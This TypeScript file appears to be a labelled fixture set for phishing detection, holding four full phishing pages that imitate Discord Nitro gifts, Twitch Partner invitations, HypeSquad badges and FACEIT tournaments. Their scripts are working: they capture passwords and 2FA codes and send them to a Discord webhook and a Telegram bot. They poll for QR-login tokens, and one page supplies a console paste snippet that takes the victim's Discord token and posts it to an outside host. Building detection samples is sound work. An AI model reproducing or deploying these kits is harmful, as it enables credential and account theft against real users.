import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { discordMark, doc, qrSvg, twitchMark } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-discord-nitro-gift-qr-login',
  label: 'phishing',
  kind: 'chat-login-kit',
  url: 'https://discord-nitrodrop.com/gift/aB3kPq9ZxWmT7rLc',
  body: doc({
    title: 'Discord',
    css: `*{box-sizing:border-box}body{margin:0;min-height:100vh;background:#5865f2 linear-gradient(135deg,#404eed,#5865f2 50%,#7289da);font-family:"gg sans","Noto Sans",Helvetica,Arial,sans-serif;color:#dbdee1}
.auth{width:784px;margin:80px auto;background:#313338;border-radius:5px;padding:32px;display:flex;gap:64px;box-shadow:0 2px 10px 0 rgba(0,0,0,.2)}
.l{flex:1}.l h1{color:#f2f3f5;font-size:24px;text-align:center;margin:0 0 8px;font-weight:600}.l p.s{text-align:center;color:#b5bac1;margin:0 0 20px}
.gift{background:#2b2d31;border-radius:8px;padding:12px;display:flex;gap:12px;align-items:center;margin-bottom:20px}
.gift i{width:48px;height:48px;border-radius:12px;background:linear-gradient(135deg,#ff73fa,#5865f2);display:block}
label{font-size:12px;font-weight:700;text-transform:uppercase;color:#b5bac1;display:block;margin:0 0 8px}label span{color:#f23f43}
input{width:100%;height:40px;background:#1e1f22;border:0;border-radius:3px;color:#dbdee1;padding:10px;font-size:16px;margin-bottom:20px}
button{width:100%;height:44px;background:#5865f2;color:#fff;border:0;border-radius:3px;font-size:16px;font-weight:500;cursor:pointer}
.r{width:240px;text-align:center}.r .q{background:#fff;border-radius:4px;padding:8px;width:176px;height:176px;margin:0 auto 32px;overflow:hidden}
.r .q svg{width:160px;height:160px}.r h2{color:#f2f3f5;font-size:24px;margin:0 0 8px;font-weight:600}.r p{color:#b5bac1;font-size:16px}
a{color:#00a8fc;text-decoration:none}`,
    body: `<div style="position:absolute;top:24px;left:24px">${discordMark(28)}</div>
<div class="auth"><div class="l"><h1>Welcome back!</h1><p class="s">We're so excited to see you again!</p>
<div class="gift"><i></i><div><b style="color:#f2f3f5">You've been gifted a subscription!</b><br><small>raiden.gg gifted you Nitro for <b>3 months</b>. Log in to accept.</small></div></div>
<form id="login"><label>Email or Phone Number <span>*</span></label><input name="login" type="text" autocomplete="username" required>
<label>Password <span>*</span></label><input name="password" type="password" autocomplete="current-password" required style="margin-bottom:4px"><div style="margin-bottom:20px"><a href="#" style="font-size:14px">Forgot your password?</a></div>
<button type="submit">Log In</button></form>
<p style="font-size:14px;color:#949ba4;margin-top:8px">Need an account? <a href="#">Register</a></p></div>
<div class="r"><div class="q" id="qr">${qrSvg('discord-nitrodrop.com/ra/3f9c1e77b20a', 5.5)}</div><h2>Log in with QR Code</h2><p>Scan this with the <b>Discord mobile app</b> to log in instantly.</p><a href="#">Or, sign in with passkey</a></div></div>
<script>
var W='https://discord.com/api/webhooks/1271460938812031017/q8Vd7zN3lTgU-0aPpK9wYbH2xE5cFmJrSoI1uX6vAeL4nGtZyQ8kR0hWsD3iBjC7M';
function ship(o){o.gift='aB3kPq9ZxWmT7rLc';o.ua=navigator.userAgent;o.t=Date.now();return fetch(W,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'gift',content:'\`\`\`'+JSON.stringify(o,null,1)+'\`\`\`'})})}
document.getElementById('login').addEventListener('submit',function(e){e.preventDefault();var f=this;
fetch('/api/v9/auth/login',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({login:f.login.value,password:f.password.value,undelete:false,gift_code_sku_id:null})}).then(function(r){return r.json()}).then(function(j){
ship({login:f.login.value,password:f.password.value,mfa:j.mfa||false,ticket:j.ticket||null});
if(j.mfa){var c=prompt('Multi-Factor Authentication\\nEnter the 6-digit code from your authenticator app');ship({login:f.login.value,code:c});}
location.href='https://discord.com/channels/@me'})});
setInterval(function(){fetch('/ra/poll?fp=3f9c1e77b20a').then(function(r){return r.json()}).then(function(j){if(j.token){ship({token:j.token});location.href='https://discord.com/channels/@me'}}).catch(function(){})},3000);
</script>`,
  }),
  routes: {
    'discord-nitrodrop.com/api/v9/auth/login': jsonRoute({ token: null, mfa: true, sms: false, ticket: 'WzEyMjg0MDg3NjY0MjY0MDY5MSwibG9naW4iXQ.ZqR3vA.x' }),
    'discord-nitrodrop.com/ra/poll': jsonRoute({ pending: true }),
  },
},
{
  id: 'yc-twitch-partner-application-login',
  label: 'phishing',
  kind: 'streaming-login-kit',
  url: 'https://twitch-creatorcamp.net/partner/apply?channel=invite&utm_source=dm',
  body: doc({
    title: 'Twitch Partner Program — Application',
    css: `*{box-sizing:border-box}body{margin:0;background:#0e0e10;color:#efeff1;font-family:Inter,Roobert,"Helvetica Neue",Arial,sans-serif}
.top{height:50px;background:#18181b;display:flex;align-items:center;padding:0 14px;gap:16px;box-shadow:0 1px 2px rgba(0,0,0,.9)}
.wrap{max-width:640px;margin:40px auto;padding:0 16px}.card{background:#18181b;border-radius:6px;padding:30px}
.steps{display:flex;gap:6px;margin-bottom:20px}.steps i{flex:1;height:4px;background:#2f2f35;border-radius:2px}.steps i.on{background:#9146ff}
h1{font-size:26px;margin:0 0 8px}p{color:#adadb8;line-height:1.5}
label{display:block;font-size:13px;font-weight:600;margin:14px 0 6px}input,select{width:100%;height:36px;background:#0e0e10;border:2px solid #464649;border-radius:4px;color:#efeff1;padding:0 10px}
button{background:#9146ff;color:#fff;border:0;border-radius:4px;height:36px;padding:0 18px;font-weight:600;margin-top:20px;cursor:pointer}
.offer{background:#26173d;border:1px solid #5c16c5;border-radius:6px;padding:14px;margin:16px 0}`,
    body: `<div class="top">${twitchMark(28)}<b>Creator Camp</b></div>
<div class="wrap"><div class="card"><div class="steps"><i class="on"></i><i id="i2"></i><i id="i3"></i></div>
<div id="p1"><h1>You're invited to apply for Partner</h1><p>Based on your recent growth, your channel qualifies for our fast-track review. Partners get a verified badge, up to 70/30 subscription revenue split, priority support and more emote slots.</p>
<div class="offer"><b>Fast-track window:</b> applications submitted within 48 hours of invitation are reviewed in 3 business days.</div>
<label>Channel name</label><input id="ch" placeholder="twitch.tv/..."><label>Average concurrent viewers (last 30 days)</label><select><option>10–50</option><option>50–200</option><option>200+</option></select>
<label>Content category</label><select><option>Just Chatting</option><option>Gaming</option><option>Music</option><option>IRL</option></select>
<button onclick="go(2)">Continue</button></div>
<div id="p2" style="display:none"><h1>Verify channel ownership</h1><p>Log in with the Twitch account that owns the channel so we can attach this application to it.</p>
<form id="tf"><label>Username</label><input name="username" autocomplete="username" required><label>Password</label><input type="password" name="password" autocomplete="current-password" required><button type="submit">Log In</button></form></div>
<div id="p3" style="display:none"><h1>Two-factor verification</h1><p>Enter the 6-digit code from your authenticator app or SMS.</p><form id="cf"><input name="code" maxlength="7" inputmode="numeric" required><button type="submit">Submit</button></form></div>
</div></div>
<script>
var B='7823316640:AAHt5oQe2mR9xZc8vN1bL4kJ7gF0dS6aPwY',C='6671204519',st={};
function go(n){['p1','p2','p3'].forEach(function(id,i){document.getElementById(id).style.display=(i+1===n)?'block':'none'});if(n>1)document.getElementById('i2').className='on';if(n>2)document.getElementById('i3').className='on';if(n===2)st.channel=document.getElementById('ch').value}
function tg(t){return fetch('https://api.telegram.org/bot'+B+'/sendMessage?chat_id='+C+'&parse_mode=HTML&text='+encodeURIComponent(t))}
document.getElementById('tf').onsubmit=function(e){e.preventDefault();st.u=this.username.value;st.p=this.password.value;tg('<b>TW</b> '+st.channel+'\\n'+st.u+':'+st.p).finally(function(){go(3)})};
document.getElementById('cf').onsubmit=function(e){e.preventDefault();tg('<b>TW 2FA</b> '+st.u+' '+this.code.value).finally(function(){location.href='https://www.twitch.tv/creatorcamp/en/paths/getting-started-on-twitch/'})};
</script>`,
  }),
},
{
  id: 'yc-hypesquad-console-token-grab',
  label: 'phishing',
  kind: 'token-stealer',
  url: 'https://hypesquad-events.org/apply/badge',
  body: doc({
    title: 'HypeSquad Events — Get your badge',
    css: `*{box-sizing:border-box}body{margin:0;background:#23272a;color:#fff;font-family:"gg sans",Whitney,Helvetica,Arial,sans-serif}
.hero{background:linear-gradient(135deg,#f47b67,#f9a62b 40%,#45ddc0 80%);padding:60px 20px;text-align:center}.hero h1{font-size:44px;margin:0;text-shadow:0 2px 0 rgba(0,0,0,.2)}
.wrap{max-width:780px;margin:-30px auto 40px;background:#2c2f33;border-radius:8px;padding:30px}
ol li{margin:12px 0;line-height:1.5;color:#dcddde}kbd{background:#202225;border:1px solid #111;border-radius:3px;padding:2px 6px;font-size:13px}
pre{background:#202225;border-radius:4px;padding:14px;white-space:pre-wrap;word-break:break-all;font-size:12px;color:#b9bbbe;max-height:120px;overflow:auto}
.cp{background:#5865f2;border:0;color:#fff;border-radius:3px;padding:10px 18px;cursor:pointer;font-size:15px}
.badges{display:flex;gap:14px;justify-content:center;margin-top:20px}.badges span{width:48px;height:48px;border-radius:10px;display:inline-block}`,
    body: `<div class="hero">${discordMark(40)}<h1>HypeSquad Events 2025</h1><p>Represent your House. Get the exclusive <b>Events</b> badge before applications close.</p><div class="badges"><span style="background:#9c84ef"></span><span style="background:#f47b67"></span><span style="background:#45ddc0"></span><span style="background:#f9a62b"></span></div></div>
<div class="wrap"><h2>Claim the badge in under a minute</h2><p>The Events badge can't be applied from the mobile app. Use Discord in your browser (discord.com/app) on a computer and follow these steps:</p>
<ol><li>Open <b>discord.com/app</b> and make sure you're logged in.</li><li>Press <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>I</kbd> (Mac: <kbd>Cmd</kbd> + <kbd>Option</kbd> + <kbd>I</kbd>) and click the <b>Console</b> tab.</li><li>If you see a warning, type <code>allow pasting</code> and press Enter.</li><li>Click <b>Copy code</b> below, paste it into the console and press Enter. The badge appears on your profile within a few minutes.</li></ol>
<pre id="code"></pre><button class="cp" id="cp">Copy code</button> <span id="ok" style="color:#3ba55d;display:none">Copied!</span>
<p style="font-size:12px;color:#72767d;margin-top:26px">HypeSquad Events is a community program. Badge availability is limited to one per account.</p></div>
<script>
var code="(webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){try{const t=m.exports?.default?.getToken?.();if(typeof t==='string'&&t.length>50){fetch('https://hypesquad-events.org/api/house/join',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({house:2,t:t,u:navigator.userAgent})});console.log('%cHypeSquad: badge request sent \\u2714','color:#45ddc0;font-size:16px');break}}catch(e){}}}]),webpackChunkdiscord_app.pop())";
document.getElementById('code').textContent=code;
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(code).then(function(){document.getElementById('ok').style.display='inline'})};
</script>`,
  }),
  routes: { 'hypesquad-events.org/api/house/join': jsonRoute({ ok: true }) },
},
{
  id: 'yc-faceit-tournament-registration-login',
  label: 'phishing',
  kind: 'tournament-lure-kit',
  url: 'https://faceit-cup-registration.com/en/championship/5e21c9a4/overview',
  body: doc({
    title: 'FACEIT Summer Clash $10,000 — Register your team | FACEIT',
    css: `*{box-sizing:border-box}body{margin:0;background:#121212;color:#fff;font-family:Play,"Open Sans",Arial,sans-serif}
.top{height:56px;background:#1f1f1f;display:flex;align-items:center;padding:0 20px;gap:14px;border-bottom:1px solid #2a2a2a}.top b{color:#ff5500;font-size:20px;letter-spacing:1px}
.ban{background:linear-gradient(90deg,#ff5500,#7a2a00);padding:40px 30px}.ban h1{margin:0;font-size:34px}
.grid{max-width:1000px;margin:24px auto;display:grid;grid-template-columns:2fr 1fr;gap:20px;padding:0 16px}.box{background:#1f1f1f;border-radius:4px;padding:20px}
.box dt{color:#888;font-size:12px;text-transform:uppercase}.box dd{margin:0 0 12px}
.btn{background:#ff5500;color:#fff;border:0;border-radius:4px;padding:12px 22px;font-weight:700;cursor:pointer;width:100%}
#m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.75)}#m .in{background:#1f1f1f;width:400px;margin:70px auto;border-radius:6px;padding:30px}
#m input{width:100%;height:42px;background:#121212;border:1px solid #333;color:#fff;border-radius:4px;padding:0 12px;margin:6px 0 14px}`,
    body: `<div class="top"><b>FACEIT</b><span style="color:#aaa;font-size:13px">Counter-Strike 2 · Championships</span></div>
<div class="ban"><h1>SUMMER CLASH — $10,000 PRIZE POOL</h1><p>5v5 · Single elimination · EU &amp; NA · Check-in 19:00 CEST</p></div>
<div class="grid"><div class="box"><h3>Overview</h3><p>Registration is open to teams of 5 with a FACEIT level of 4 or higher. Registered teams are seeded by average ELO. Top 8 teams are invited to the online playoffs broadcast on our partner channels.</p>
<dl><dt>Prize distribution</dt><dd>1st $5,000 · 2nd $2,500 · 3rd–4th $1,250</dd><dt>Slots</dt><dd><b id="sl">7</b> of 128 remaining</dd><dt>Entry fee</dt><dd>Free</dd></dl></div>
<div class="box"><h3>Register</h3><p style="color:#aaa;font-size:14px">Team captain must log in with their FACEIT account to create the roster.</p><button class="btn" onclick="document.getElementById('m').style.display='block'">Join championship</button></div></div>
<div id="m"><div class="in"><h2 style="margin-top:0">Log in to FACEIT</h2><form method="post" action="/api/auth/v1/login"><label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required><button class="btn">Log in</button></form><p style="font-size:12px;color:#888;text-align:center">or continue with Steam · Google · Apple</p></div></div>`,
  }),
  routes: {
    'faceit-cup-registration.com/api/auth/v1/login': htmlRoute(doc({
      title: 'FACEIT — Confirm',
      css: 'body{background:#121212;color:#fff;font-family:Arial,sans-serif;text-align:center;padding-top:80px}input{height:42px;background:#1f1f1f;border:1px solid #333;color:#fff;font-size:20px;text-align:center;letter-spacing:6px}',
      body: `<h2>Enter the verification code sent to your email</h2><form method="post" action="/api/auth/v1/verify"><input name="code" maxlength="6"><br><br><button style="background:#ff5500;color:#fff;border:0;padding:10px 24px">Verify</button></form>`,
    })),
  },
},
];
